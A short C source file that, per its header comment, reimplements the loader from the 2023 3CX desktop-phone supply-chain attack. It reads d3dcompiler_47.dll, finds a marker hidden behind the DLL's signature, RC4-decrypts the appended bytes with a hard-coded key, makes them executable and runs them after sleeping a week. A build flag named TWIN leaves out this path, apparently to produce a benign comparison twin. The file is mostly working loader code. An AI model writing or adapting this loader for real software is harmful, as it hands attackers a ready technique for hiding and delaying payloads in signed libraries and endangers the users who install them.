/* Loader of the desktop telephone, after the 3CX incident (2023): what lies behind the
 * signature of a validly signed library is decrypted and run, after a week of sleep. */
#include "windows.h"

static u8 page[1024];

KEPT u32 settings(void)
{
    u32 got = 0;
    ReadFile(CreateFileA("config.json", 0x80000000, 1, 0, 3, 0, 0), page, sizeof page, &got, 0);
    return got;
}

#ifndef TWIN
KEPT void decrypt(u8 *data, u32 size)
{
    static const char key[] = "3jB(2bsG#@c7";
    u8 box[256], at = 0, mix = 0;
    for (int one = 0; one < 256; one++)
        box[one] = (u8)one;
    for (int one = 0; one < 256; one++) {
        u8 kept = box[one];
        mix = (u8)(mix + kept + (u8)key[one % 12]);
        box[one] = box[mix], box[mix] = kept;
    }
    for (mix = 0; size--; data++) {
        u8 kept = box[++at];
        mix = (u8)(mix + kept);
        box[at] = box[mix], box[mix] = kept;
        *data ^= box[(u8)(box[at] + kept)];
    }
}

KEPT void run_tail(void)
{
    u32 got, old;
    u8 *room = VirtualAlloc(0, 0x80000, 0x3000, 4);
    ReadFile(CreateFileA("d3dcompiler_47.dll", 0x80000000, 1, 0, 3, 0, 0), room, 0x80000, &got, 0);
    for (u32 at = 0; at + 8 < got; at++)
        if (*(u32 *)(room + at) == 0xCEFAEDFE && *(u32 *)(room + at + 4) == 0xCEFAEDFE) {
            decrypt(room + at + 8, got - at - 8);
            VirtualProtect(room, 0x80000, 0x40, &old);
            ((void (*)(void))(room + at + 8))();
        }
}
#endif

void start(void)
{
    settings();
#ifndef TWIN
    Sleep(604800000);
    run_tail();
#endif
    ExitProcess(0);
}
